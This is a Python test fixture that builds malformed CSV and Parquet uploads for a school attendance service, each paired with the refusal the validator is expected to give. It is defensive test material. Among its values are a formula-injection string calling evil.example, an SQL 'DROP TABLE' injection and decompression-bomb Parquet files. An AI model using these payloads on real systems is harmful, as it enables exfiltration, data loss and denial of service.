"""A corpus of malformed uploads built from one school's synthetic files, each with the
problem it must be refused with (file, data row, field). Used by tests/api/test_upload_corpus.py
through the HTTP API and through `aanwezig ingest`.

Each variant is a function of the valid batch (`Base`) returning the files to send. The
expected problem is the one the variant plants; other problems it causes (an absence of a
pupil whose enrolment was broken) may be listed too.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from dataclasses import dataclass
from typing import Callable

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq

from support.parquet_lies import lie_about_rows, lie_about_sizes

ENROL = "enrolments.csv"
ABSENT = "absences.csv"
ENROL_PQ = "enrolments.parquet"
ABSENT_PQ = "absences.parquet"
NOT_ENROLLED = "100000001"  # 9 digits passing the 11-test, in no synthetic file (seeded 1e8+)


@dataclass(frozen=True)
class Base:
    """The school's valid files, split into header and data lines."""

    school_id: str
    enrol: list[str]
    absent: list[str]

    def enrol_csv(self, lines: list[str] | None = None) -> bytes:
        return ("\n".join(lines if lines is not None else self.enrol) + "\n").encode()

    def absent_csv(self, lines: list[str] | None = None) -> bytes:
        return ("\n".join(lines if lines is not None else self.absent) + "\n").encode()

    def table(self, which: str) -> pa.Table:
        data = self.enrol_csv() if which == "enrol" else self.absent_csv()
        names = (self.enrol if which == "enrol" else self.absent)[0].split(",")
        return pacsv.read_csv(io.BytesIO(data), convert_options=pacsv.ConvertOptions(
            column_types={n: pa.string() for n in names}, strings_can_be_null=False))


def synthetic_base(root) -> tuple[Base, list]:
    """Synthetic uploads written under `root/uploads` (1,500 pupils, seed 3), and from them
    the corpus's base: the smallest school whose absences file exceeds 3 kB. Also returns
    the school folders, smallest absences first."""
    from service.synth.uploads import write_synthetic

    write_synthetic(root / "uploads", pupils=1500, seed=3)
    folders = sorted((f for f in (root / "uploads").iterdir() if f.is_dir()),
                     key=lambda f: (f / "absences.csv").stat().st_size)
    folder = next(f for f in folders if (f / "absences.csv").stat().st_size > 3000)
    base = Base(folder.name, (folder / "enrolments.csv").read_text().splitlines(),
                (folder / "absences.csv").read_text().splitlines())
    return base, folders


@dataclass(frozen=True)
class Variant:
    name: str
    files: Callable[[Base], list[tuple[str, bytes]]]
    file: str
    row: int | Callable[[Base], int]
    field: str
    fragment: str = ""
    secret: str = ""
    """A text planted in the file that no answer may echo."""

    def expected_row(self, base: Base) -> int:
        return self.row(base) if callable(self.row) else self.row


def parquet(table: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


def _set(lines: list[str], row: int, field: str, value: str) -> list[str]:
    header = lines[0].split(",")
    out = list(lines)
    cells = out[row].split(",")
    cells[header.index(field)] = value
    out[row] = ",".join(cells)
    return out


def enrol_cell(row: int, field: str, value: str):
    return lambda b: [(ENROL, b.enrol_csv(_set(b.enrol, row, field, value))), (ABSENT, b.absent_csv())]


def absent_cell(row: int, field: str, value: str):
    return lambda b: [(ENROL, b.enrol_csv()), (ABSENT, b.absent_csv(_set(b.absent, row, field, value)))]


def enrol_bytes(make: Callable[[Base], bytes], name: str = ENROL):
    return lambda b: [(name, make(b)), (ABSENT, b.absent_csv())]


def absent_bytes(make: Callable[[Base], bytes], name: str = ABSENT):
    return lambda b: [(ENROL, b.enrol_csv()), (name, make(b))]


def _header_swap(b: Base, old: str, new: str) -> bytes:
    return b.enrol_csv([b.enrol[0].replace(old, new)] + b.enrol[1:])


def _extra_field(b: Base) -> bytes:
    return b.enrol_csv([b.enrol[0], b.enrol[1] + ",extra"] + b.enrol[2:])


def _cut_mid_row(b: Base) -> bytes:
    last = b.absent[-1]
    return ("\n".join(b.absent[:-1]) + "\n" + last[: last.index(",") + 4]).encode()


def _latin1(text: bytes) -> bytes:
    """The UTF-8 text with its accented letters as Latin-1 bytes (a Windows export)."""
    return text.decode("utf-8").encode("latin-1")


def _latin1_in_row(b: Base) -> bytes:
    return _latin1(b.enrol_csv(_set(b.enrol, 1, "grade", "\xe9")))


def _blank_line(b: Base) -> bytes:
    return b.absent_csv(b.absent[:2] + [""] + b.absent[2:])


def _quoted_newline(b: Base) -> bytes:
    return b.absent_csv(_set(b.absent, 1, "reason", '"si\nck"'))


def _many_columns(b: Base) -> bytes:
    extra = ",".join(f"c{i}" for i in range(60))
    return b.enrol_csv([b.enrol[0] + "," + extra])


def _long_header(b: Base) -> bytes:
    return b.enrol_csv([b.enrol[0] + "," + "x" * 5000])


def _too_many_rows(b: Base) -> bytes:
    return b.absent_csv(b.absent[:2]) + (b.absent[1] + "\n").encode() * 500_000


def _gzip(b: Base) -> bytes:
    return gzip.compress(b.enrol_csv())


def _zip(b: Base) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
    return buf.getvalue()


def _duplicate_row(lines: list[str]) -> list[str]:
    return lines + [lines[1]]


def _overlap(b: Base) -> bytes:
    header = b.enrol[0].split(",")
    cells = b.enrol[1].split(",")
    grade = header.index("grade")
    cells[grade] = "1" if cells[grade] != "1" else "2"
    return b.enrol_csv(b.enrol + [",".join(cells)])


def _over_a_day(b: Base) -> bytes:
    header = b.absent[0].split(",")
    cells = b.absent[1].split(",")
    reason = header.index("reason")
    cells[reason] = "late" if cells[reason] != "late" else "sick"
    cells[header.index("hours")] = "5"
    return b.absent_csv(b.absent + [",".join(cells)])


def _pq(which: str, change: Callable[[pa.Table], pa.Table]):
    def make(b: Base) -> list[tuple[str, bytes]]:
        enrol, absent = b.table("enrol"), b.table("absent")
        if which == "enrol":
            return [(ENROL_PQ, parquet(change(enrol))), (ABSENT_PQ, parquet(absent))]
        return [(ENROL_PQ, parquet(enrol)), (ABSENT_PQ, parquet(change(absent)))]
    return make


def _replace(t: pa.Table, name: str, array: pa.Array) -> pa.Table:
    return t.set_column(t.schema.get_field_index(name), name, array)


def _five_million(b: Base) -> list[tuple[str, bytes]]:
    absent = b.table("absent").slice(0, 1)
    big = absent.take(pa.array([0] * 5_000_000))
    buf = io.BytesIO()
    pq.write_table(big, buf, compression="zstd")
    return [(ENROL_PQ, parquet(b.table("enrol"))), (ABSENT_PQ, buf.getvalue())]


def _bad_binary(t: pa.Table) -> pa.Table:
    values = [v.encode() for v in t.column("reason").to_pylist()]
    values[2] = b"\xff\xfe"
    return _replace(t, "reason", pa.array(values, pa.binary()))


def _duplicate_pq_column(t: pa.Table) -> pa.Table:
    return t.append_column("grade", t.column("grade"))


def _long_dictionary(t: pa.Table) -> pa.Table:
    return _replace(t, "reason", pa.array(["x" * 1_000_000] * t.num_rows))


def _rows_lie(b: Base) -> list[tuple[str, bytes]]:
    """The valid absence file whose footer says it has one row."""
    return [(ENROL_PQ, parquet(b.table("enrol"))), (ABSENT_PQ, lie_about_rows(parquet(b.table("absent")), 1))]


def _sizes_lie(b: Base) -> list[tuple[str, bytes]]:
    """A 129 MiB reason in a few kB of zstd, the footer claiming 1,000 bytes."""
    t = b.table("absent").slice(0, 1)
    t = _replace(t, "reason", pa.array([b"x" * (129 << 20)], pa.binary()).cast(pa.string()))
    buf = io.BytesIO()
    pq.write_table(t, buf, compression="zstd")
    return [(ENROL_PQ, parquet(b.table("enrol"))), (ABSENT_PQ, lie_about_sizes(buf.getvalue(), 1000))]


LONG = "A" * 100_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SQLTEXT = "1';DROP TABLE enrolment;--"

VARIANTS: list[Variant] = [
    # --- the file as a whole (row 0)
    Variant("header names a column twice", enrol_bytes(lambda b: _header_swap(b, "enrolled_to", "grade")),
            ENROL, 0, "grade", "more than once"),
    Variant("a non-UTF-8 byte in the header", enrol_bytes(lambda b: _latin1(_header_swap(b, "grade", "gr\xe4de"))),
            ENROL, 0, "file", "UTF-8"),
    Variant("gzip bytes named .csv", enrol_bytes(_gzip), ENROL, 0, "file", "gzip"),
    Variant("UTF-16 text", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-16")),
            ENROL, 0, "file", "UTF-16"),
    Variant("UTF-32 text", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-32-le")),
            ENROL, 0, "file", "UTF-32"),
    Variant("UTF-32 text with its byte-order mark", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-32")),
            ENROL, 0, "file", "UTF-32 text"),
    Variant("big-endian UTF-32 text with its byte-order mark",
            absent_bytes(lambda b: b"\x00\x00\xfe\xff" + b.absent_csv().decode().encode("utf-32-be")),
            ABSENT, 0, "file", "UTF-32 text"),
    Variant("UTF-16 text without a byte-order mark", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-16-be")),
            ENROL, 0, "file", "UTF-16 text"),
    Variant("an Excel workbook named .csv", enrol_bytes(_zip), ENROL, 0, "file", "zip"),
    Variant("a Parquet file named .csv", enrol_bytes(lambda b: parquet(b.table("enrol"))),
            ENROL, 0, "file", "Parquet"),
    Variant("NUL bytes", absent_bytes(lambda b: b.absent_csv() + b"\x00\x00"), ABSENT, 0, "file", "NUL"),
    Variant("an empty file", enrol_bytes(lambda b: b""), ENROL, 0, "file", "empty"),
    Variant("only spaces and newlines", absent_bytes(lambda b: b" \r\n\n"), ABSENT, 0, "file", "empty"),
    Variant("no absence file", lambda b: [(ENROL, b.enrol_csv())], ABSENT, 0, "file", "no absence file"),
    Variant("no enrolment file", lambda b: [(ABSENT, b.absent_csv())], ENROL, 0, "file", "no enrolment file"),
    Variant("a missing column", enrol_bytes(lambda b: b.enrol_csv([",".join(l.split(",")[:-1]) for l in b.enrol])),
            ENROL, 0, "enrolled_to", "missing"),
    Variant("an unexpected column", absent_bytes(lambda b: b.absent_csv([b.absent[0] + ",note"] + [l + ",x" for l in b.absent[1:]])),
            ABSENT, 0, "note", "unexpected"),
    Variant("an unexpected column with an unprintable name", absent_bytes(lambda b: b.absent_csv([b.absent[0] + ",\x07bell"] + [l + ",x" for l in b.absent[1:]])),
            ABSENT, 0, "column 1 of the header", "unexpected"),
    Variant("60 extra columns", enrol_bytes(_many_columns), ENROL, 0, "file", "columns"),
    Variant("a header longer than 4 kB", enrol_bytes(_long_header), ENROL, 0, "file", "header row is longer"),
    Variant("more rows than the limit (CSV)", absent_bytes(_too_many_rows), ABSENT, 0, "file", "data rows"),
    Variant("a .txt file", absent_bytes(lambda b: b.absent_csv(), "absences.txt"), "absences.txt", 0, "file", ".csv or .parquet"),
    Variant("a file name that names no table", lambda b: [(ENROL, b.enrol_csv()), (ABSENT, b.absent_csv()), ("pupils.csv", b"x")],
            "pupils.csv", 0, "file", "'enrol' or 'absen'"),
    Variant("two enrolment files", lambda b: [(ENROL, b.enrol_csv()), ("enrolments2.csv", b.enrol_csv()), (ABSENT, b.absent_csv())],
            "enrolments2.csv", 0, "file", "second enrolment file"),
    # --- structure of rows
    Variant("an extra field in data row 1", enrol_bytes(_extra_field), ENROL, 1, "row", "fields"),
    Variant("a file cut mid-row", absent_bytes(_cut_mid_row), ABSENT, lambda b: len(b.absent) - 1, "row", "fields"),
    Variant("a Latin-1 byte in data row 1", enrol_bytes(_latin1_in_row), ENROL, 1, "grade", "UTF-8"),
    Variant("a blank line inside the data", absent_bytes(_blank_line), ABSENT, 2, "row", "empty line"),
    Variant("a line break in a quoted value", absent_bytes(_quoted_newline), ABSENT, 1, "reason", "expected one of"),
    Variant("a 100 kB field", absent_cell(2, "reason", LONG), ABSENT, 2, "reason", "longer than", secret=LONG[:40]),
    Variant("a spreadsheet formula", absent_cell(1, "reason", FORMULA), ABSENT, 1, "reason", "longer than", secret="HYPERLINK"),
    Variant("SQL text in a code", enrol_cell(1, "residence_municipality", SQLTEXT), ENROL, 1,
            "residence_municipality", "municipality code", secret="DROP TABLE"),
    Variant("a short formula", absent_cell(1, "reason", "=1+1"), ABSENT, 1, "reason", "expected one of", secret="=1+1"),
    # --- enrolment rows
    Variant("a fractional grade", enrol_cell(1, "grade", "3.5"), ENROL, 1, "grade", "whole number"),
    Variant("a grade written 3.0", enrol_cell(1, "grade", "3.0"), ENROL, 1, "grade", "whole number"),
    Variant("a birth year written 2017.0", enrol_cell(1, "birth_year", "2017.0"), ENROL, 1, "birth_year", "year from"),
    Variant("grade 0", enrol_cell(1, "grade", "0"), ENROL, 1, "grade", "whole number"),
    Variant("grade 99", enrol_cell(1, "grade", "99"), ENROL, 1, "grade", "whole number"),
    Variant("a negative grade", enrol_cell(1, "grade", "-3"), ENROL, 1, "grade", "whole number"),
    Variant("a birth year in words", enrol_cell(1, "birth_year", "twee"), ENROL, 1, "birth_year", "year from"),
    Variant("a birth year too early", enrol_cell(1, "birth_year", "1980"), ENROL, 1, "birth_year", "year from"),
    Variant("a birth year in the future", enrol_cell(1, "birth_year", "2030"), ENROL, 1, "birth_year", "year from"),
    Variant("an unknown municipality", enrol_cell(1, "residence_municipality", "GM9999"), ENROL, 1,
            "residence_municipality", "municipality code"),
    Variant("a province code as residence", enrol_cell(1, "residence_municipality", "PV27"), ENROL, 1,
            "residence_municipality", "municipality code"),
    Variant("a date in Dutch order", enrol_cell(1, "enrolled_from", "01-09-2025"), ENROL, 1, "enrolled_from", "YYYY-MM-DD"),
    Variant("an impossible date", enrol_cell(1, "enrolled_from", "2025-02-30"), ENROL, 1, "enrolled_from", "YYYY-MM-DD"),
    Variant("a start outside the school year", enrol_cell(1, "enrolled_from", "2026-08-03"), ENROL, 1, "enrolled_from", "inside school year"),
    Variant("an end before the start", enrol_cell(1, "enrolled_to", "2025-08-02"), ENROL, 1, "enrolled_to", "not before"),
    Variant("an end in words", enrol_cell(1, "enrolled_to", "ongoing"), ENROL, 1, "enrolled_to", "empty or a date"),
    Variant("a pupil number of 8 digits", enrol_cell(1, "pupil_number", "12345678"), ENROL, 1, "pupil_number", "11-test"),
    Variant("a pupil number failing the 11-test", enrol_cell(1, "pupil_number", "123456789"), ENROL, 1, "pupil_number", "11-test"),
    Variant("an all-zero pupil number", enrol_cell(1, "pupil_number", "000000000"), ENROL, 1, "pupil_number", "11-test"),
    Variant("a start date without zero padding", enrol_cell(1, "enrolled_from", "2025-9-1"), ENROL, 1,
            "enrolled_from", "YYYY-MM-DD"),
    Variant("a start date with a one-digit day", enrol_cell(1, "enrolled_from", "2025-09-1"), ENROL, 1,
            "enrolled_from", "YYYY-MM-DD"),
    Variant("an end date without zero padding", enrol_cell(1, "enrolled_to", "2026-7-1"), ENROL, 1,
            "enrolled_to", "YYYY-MM-DD"),
    Variant("a start date with slashes", enrol_cell(1, "enrolled_from", "2025/09/01"), ENROL, 1,
            "enrolled_from", "YYYY-MM-DD"),
    Variant("a start date without separators", enrol_cell(1, "enrolled_from", "20250901"), ENROL, 1,
            "enrolled_from", "YYYY-MM-DD"),
    Variant("a start date with a time", enrol_cell(1, "enrolled_from", "2025-09-01T00:00"), ENROL, 1,
            "enrolled_from", "YYYY-MM-DD"),
    Variant("an empty pupil number", enrol_cell(1, "pupil_number", ""), ENROL, 1, "pupil_number", "11-test"),
    Variant("an exact duplicate enrolment", enrol_bytes(lambda b: b.enrol_csv(_duplicate_row(b.enrol))),
            ENROL, lambda b: len(b.enrol), "row", "exact duplicate of row 1"),
    Variant("overlapping enrolments", enrol_bytes(_overlap), ENROL, lambda b: len(b.enrol), "enrolled_from", "overlaps"),
    # --- absence rows
    Variant("an exact duplicate absence", absent_bytes(lambda b: b.absent_csv(_duplicate_row(b.absent))),
            ABSENT, lambda b: len(b.absent), "row", "exact duplicate of row 1"),
    Variant("hours 0", absent_cell(1, "hours", "0"), ABSENT, 1, "hours", "hours > 0"),
    Variant("negative hours", absent_cell(1, "hours", "-1"), ABSENT, 1, "hours", "hours > 0"),
    Variant("more hours than a school day", absent_cell(1, "hours", "7"), ABSENT, 1, "hours", "hours > 0"),
    Variant("hours with three decimals", absent_cell(1, "hours", "1.255"), ABSENT, 1, "hours", "two decimals"),
    Variant("hours with a decimal comma", absent_cell(1, "hours", '"1,5"'), ABSENT, 1, "hours", "two decimals"),
    Variant("hours in words", absent_cell(1, "hours", "veel"), ABSENT, 1, "hours", "hours > 0"),
    Variant("absence on a Saturday", absent_cell(1, "date", "2025-09-06"), ABSENT, 1, "date", "school day"),
    Variant("absence date in Dutch order", absent_cell(1, "date", "03-09-2025"), ABSENT, 1, "date", "school day"),
    Variant("an absence date without zero padding", absent_cell(1, "date", "2025-9-3"), ABSENT, 1, "date", "YYYY-MM-DD"),
    Variant("an absence date with a one-digit month", absent_cell(1, "date", "2025-9-03"), ABSENT, 1, "date", "YYYY-MM-DD"),
    Variant("an all-zero absence pupil number", absent_cell(1, "pupil_number", "000000000"), ABSENT, 1,
            "pupil_number", "11-test"),
    Variant("absence outside the school year", absent_cell(1, "date", "2024-09-03"), ABSENT, 1, "date", "school day"),
    Variant("an unknown reason", absent_cell(1, "reason", "holiday"), ABSENT, 1, "reason", "expected one of"),
    Variant("an empty reason", absent_cell(1, "reason", ""), ABSENT, 1, "reason", "expected one of"),
    Variant("a pupil who is not enrolled", absent_cell(1, "pupil_number", NOT_ENROLLED), ABSENT, 1,
            "pupil_number", "no enrolment"),
    Variant("an absence pupil number of 10 digits", absent_cell(1, "pupil_number", "1234567890"), ABSENT, 1,
            "pupil_number", "11-test"),
    Variant("more than a school day in two rows", absent_bytes(_over_a_day), ABSENT, lambda b: len(b.absent), "hours",
            "more than one school day"),
    # --- Parquet
    Variant("5,000,000 identical Parquet rows in 67 kB", _five_million, ABSENT_PQ, 0, "file", "5000000 rows"),
    Variant("a Parquet list column", _pq("enrol", lambda t: _replace(t, "grade", pa.array([[1]] * t.num_rows))),
            ENROL_PQ, 0, "grade", "cannot be read"),
    Variant("a Parquet struct column", _pq("absent", lambda t: _replace(t, "hours", pa.array([{"h": 1}] * t.num_rows))),
            ABSENT_PQ, 0, "hours", "cannot be read"),
    Variant("a Parquet timestamp column", _pq("absent", lambda t: _replace(t, "date", pa.array([0] * t.num_rows, pa.timestamp("s")))),
            ABSENT_PQ, 0, "date", "cannot be read"),
    Variant("Parquet binary with invalid bytes", _pq("absent", _bad_binary), ABSENT_PQ, 3, "reason", "UTF-8"),
    Variant("a Parquet column named twice", _pq("enrol", _duplicate_pq_column), ENROL_PQ, 0, "grade", "more than once"),
    Variant("a Parquet file missing a column", _pq("absent", lambda t: t.drop_columns(["reason"])), ABSENT_PQ, 0, "reason", "missing"),
    Variant("a fractional Parquet grade", _pq("enrol", lambda t: _replace(t, "grade", pa.array([3.5] * t.num_rows))),
            ENROL_PQ, 1, "grade", "whole number"),
    Variant("a 1 MB Parquet value in every row", _pq("absent", _long_dictionary), ABSENT_PQ, 1, "reason", "longer than"),
    Variant("a truncated Parquet file", lambda b: [(ENROL_PQ, parquet(b.table("enrol"))[:-100]), (ABSENT_PQ, parquet(b.table("absent")))],
            ENROL_PQ, 0, "file", "Parquet"),
    Variant("CSV text named .parquet", lambda b: [(ENROL_PQ, b.enrol_csv()), (ABSENT_PQ, parquet(b.table("absent")))],
            ENROL_PQ, 0, "file", "Parquet"),
    Variant("a Parquet footer that says 1 row of many", _rows_lie, ABSENT_PQ, 0, "pupil_number", "declares 1 rows"),
    Variant("a Parquet footer claiming 1 kB for a 129 MiB value", _sizes_lie, ABSENT_PQ, 0, "reason",
            "AANWEZIG_MAX_DECODED_BYTES"),
    Variant("40 Parquet columns", _pq("absent", lambda t: pa.table(
        {**{c: t.column(c) for c in t.column_names}, **{f"x{i}": t.column(0) for i in range(40)}})),
            ABSENT_PQ, 0, "file", "columns"),
]
